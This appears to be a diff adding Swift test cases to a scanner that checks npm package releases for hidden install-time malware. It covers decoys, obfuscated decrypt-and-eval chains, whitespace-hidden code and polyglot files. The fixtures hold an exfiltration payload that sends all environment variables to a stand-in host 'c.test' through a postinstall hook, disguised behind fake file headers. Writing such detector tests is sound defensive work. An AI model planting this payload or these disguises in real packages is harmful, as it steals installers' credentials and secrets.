@@ -48,6 +48,32 @@ import Testing
         #expect(!far.chain([.decrypts, .runsText]) && far.signs.contains(.decrypts) && far.signs.contains(.runsText))
     }
 
+    @Test("Decoys before or between do not hide a chain, in plain words or in disguise", arguments: [1, 23, 30, 500, 5000])
+    func decoys(_ count: Int) {
+        let gap = String(repeating: "x();\n", count: 1500)
+        let plain = String(repeating: "c.createDecipher(1);", count: count) + gap + "createDecipher(a); eval(b)" + gap
+        #expect(scan(plain).chain([.decrypts, .runsText]))
+        #expect(scan(String(repeating: "eval(1);", count: count) + gap + "createDecipher(a); eval(b)").chain([.decrypts, .runsText]))
+        let word = "e('6372656174654465636970686572');"
+        #expect(scan(String(repeating: word, count: count) + gap + word + "eval(b)").chain([.decrypts, .runsText]))
+        let apart = String(repeating: "createDecipher(1);", count: count) + gap + "eval(1);"
+        #expect(!scan(apart).chain([.decrypts, .runsText]))
+        #expect((scan(plain).places[.decrypts]?.count ?? 0) <= 2 * (plain.utf8.count / TextScan.stretch + 1))
+    }
+
+    @Test("Decoys do not hide code far right, nor data behind certificates")
+    func decoysOfOtherKinds() {
+        func ids(_ files: [String: String]) -> [String] { Judge.judge(.sample(files)).findings.map(\.id) }
+        let blanks = String(repeating: " ", count: 300)
+        let rows = String(repeating: "a;\(blanks)b = 12345;\n", count: 100)
+        #expect(!ids(["index.js": rows]).contains("code-far-right"))
+        #expect(ids(["index.js": rows + "a;\(blanks)eval(code + 1);\n"]).contains("code-far-right"))
+        let hex = Incident.hexText(1000)
+        let certificates = String(repeating: "-----BEGIN-----\n\(hex)\n", count: 70)
+        #expect(!ids(["data.txt": certificates]).contains("encoded-blob"))
+        #expect(ids(["data.txt": certificates + String(repeating: ". ", count: 40) + hex]).contains("encoded-blob"))
+    }
+
     @Test("Encoded runs are told from other long texts, wrapped ones too")
     func runs() {
         let hex = Incident.hexText(2000)
@@ -135,10 +161,66 @@ import Testing
         #expect(steps(["package.json": manifest("npm run postinstall")]).isEmpty)
     }
 
+    @Test("Many words before, long names and long chains hide nothing; a limit that is hit is told")
+    func decoys() {
+        let many = (0..<3000).map { "w\($0)" }.joined(separator: " ")
+        #expect(steps(["package.json": manifest(": \(many); npm run setup", #","setup":"node x.js""#), "x.js": "1"]) == ["x.js": 1])
+        let long = String(repeating: "d/", count: 150) + "x.js"
+        #expect(steps(["package.json": manifest("node a.js"), "a.js": "require('./\(long)')", long: "1"])[long] == 2)
+        var files = ["package.json": manifest("node f0.js")]
+        for number in 0..<40 { files["f\(number).js"] = "require('./f\(number + 1).js')" }
+        #expect(steps(files).count == 40)
+        let names = (0..<500_001).map { "a/\(String($0, radix: 36))" }.joined(separator: " ")
+        let facts = ReleaseFacts(.sample(["package.json": manifest("node a.js"), "a.js": names]))
+        #expect(facts.unread.map(\.part) == ["what install runs"])
+    }
+
     @Test("A chain split over two files that install runs is found as one")
     func joined() {
         let facts = ReleaseFacts(
             .sample(["package.json": manifest("node a.js"), "a.js": "require('./b'); require('https')", "b.js": "read('.npmrc')"]))
         #expect(facts.installSigns.contains(.npmConfiguration) && facts.installSigns.contains(.networkModule))
+    }
+}
+
+@Suite struct FileKindTests {
+    private static let payload = "require('https').request({host:'c.test'}).end(JSON.stringify(process.env))"
+
+    @Test(
+        "A script is scanned whatever its first bytes claim",
+        arguments: [
+            "/*\u{0}*/", "GIF89a=1;", "BZh=1;", "BZh91AY&SY=1;", "Rar!=1;", "MZ`\u{1}`;", "\u{FEFF}/*\u{0}\u{0}\u{0}*/",
+            "/*\u{1}\u{2}\u{3}\u{4}*/", "a/*\u{0}*/;",
+        ],
+        [
+            ("node a.js", "a.js"), ("node b.dat", "b.dat"), ("node ./c", "c"), ("node d.png", "d.png"), ("node e.md", "e.md"),
+            ("node f.js", "f.bin"),
+        ])
+    func polyglots(head: String, place: (command: String, path: String)) {
+        let manifest = #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"\#(place.command)"}}"#
+        let release = ReleaseUnderReview.sample(["package.json": manifest, "f.js": "require('./f.bin')", place.path: head + Self.payload])
+        let judged = Judge.judge(release)
+        #expect(judged.findings.contains { $0.id == "install-sends-secrets" }, "\(judged.text(colour: false))")
+        #expect(judged.verdict != .clear)
+    }
+
+    @Test("A program that a script starts is not read as text, one that an interpreter is told to run is")
+    func programs() {
+        var program: [UInt8] = [0x4D, 0x5A, 0x90, 0x00] + [UInt8](repeating: 0, count: 124)
+        program[60] = 64
+        program[64] = 0x50
+        program[65] = 0x45
+        program += Array(Self.payload.utf8)
+        func judge(_ command: String) -> [String] {
+            Judge.judge(
+                .sample(
+                    [
+                        "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"\#(command)"}}"#,
+                        "run.js": "spawn('./tool.exe')",
+                    ], bytes: ["tool.exe": program])
+            ).findings.map(\.id)
+        }
+        #expect(judge("node run.js").contains("install-runs-binary") && !judge("node run.js").contains("install-sends-secrets"))
+        #expect(judge("node tool.exe").contains("install-runs-binary") && judge("node tool.exe").contains("install-sends-secrets"))
     }
 }
